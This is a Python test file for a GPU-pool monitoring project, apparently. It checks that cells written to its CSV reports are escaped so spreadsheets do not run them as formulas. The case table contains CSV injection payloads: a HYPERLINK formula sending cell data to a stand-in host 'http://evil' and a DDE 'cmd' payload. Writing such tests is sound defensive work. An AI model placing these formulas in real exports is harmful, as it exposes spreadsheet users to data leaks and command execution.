"""A cell of our CSV is never a formula."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.monitoring.records import record

import gpupool
from gpupool.monitoring.accounting import Range, sums, total
from gpupool.monitoring.analysis.csv_rows import csv_text
from gpupool.monitoring.usage_report import Report, as_csv
from gpupool.pool.model.ids import Milliseconds

ROOT = Path(gpupool.__file__).resolve().parent


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil"&A1)', '\'=HYPERLINK("http://evil"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd", "'-2+3+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-0.5", "-0.5"),
        (-0.5, "-0.5"),
        (-7, "-7"),
        ("train.py", "train.py"),
        ("", ""),
        (None, ""),
    ],
)
def test_what_a_spreadsheet_would_execute_is_a_text(cell: object, written: str) -> None:
    ((found, _),) = csv.reader(io.StringIO(csv_text([(cell, "x")]), newline=""))
    assert found == written


@given(st.lists(st.text(), min_size=2, max_size=4))
def test_no_cell_begins_as_a_formula(cells: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(csv_text([cells]), newline=""))
    for cell, found in zip(cells, row, strict=True):
        assert found in (cell, f"'{cell}")
        if found.startswith(("=", "+", "-", "@", "\t", "\r")):
            float(found)


def test_a_program_with_the_name_of_a_formula_is_a_text_in_the_accounts() -> None:
    within = Range(Milliseconds(0), Milliseconds(2**50))
    records = [record(1, program="=1+1")]
    rows = sums(records, "program", within)[0]
    text = as_csv(Report("program", within, rows, total(records, within), {}))
    assert text.splitlines()[1].startswith("'=1+1,")


def test_nobody_else_writes_csv() -> None:
    own = ROOT / "monitoring" / "analysis" / "csv_rows.py"
    for folder in ("pool", "monitoring", "cli", "remoting", "simulations", "consensus"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.resolve() != own.resolve() and "dropin" not in path.parts:
                text = path.read_text()
                assert "csv.writer" not in text, path
                assert "csv.DictWriter" not in text, path
